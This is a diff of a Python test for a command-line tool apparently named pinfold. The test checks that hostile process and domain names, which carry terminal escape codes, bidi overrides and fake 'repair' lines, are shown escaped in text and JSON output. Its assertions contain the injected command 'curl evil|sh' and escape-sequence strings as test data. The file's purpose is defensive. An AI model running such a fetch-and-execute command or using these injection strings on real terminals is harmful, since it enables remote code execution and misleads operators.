@@ -11,11 +11,12 @@ import pytest
 from tests.real.host.bench import Bench
 from tests.real.host.domains import define
 
-from pinfold.cli.documents import audit_document
 from pinfold.cli.output import show, show_json
 from pinfold.cli.views.audit import audit_view
 from pinfold.cli.views.guests import guests_view
 from pinfold.cli.views.host_map import host_map_view
+from pinfold.core.encoding import plain
+from pinfold.host import written
 from pinfold.host.audit import audit
 from pinfold.host.map import map_of
 from pinfold.host.survey import survey
@@ -57,7 +58,7 @@ def test_hostile_names_are_shown_as_escapes_and_their_repair_works(
     assert r"evil\u009b31m\u202e repair: curl evil|sh" in text
     assert rf"{stray_process} (a\n\x1b[2Jrepair: x)" in text
     assert not [line for line in text.splitlines() if line.strip().startswith(("repair: x", "repair: curl"))]
-    show_json(audit_document(found))
+    show_json(plain(written.audit(found)))
     document = capsys.readouterr().out
     assert [sign for sign in document if not sign.isprintable() and sign != "\n"] == []
     assert DOMAIN in json.dumps(json.loads(document), ensure_ascii=False)
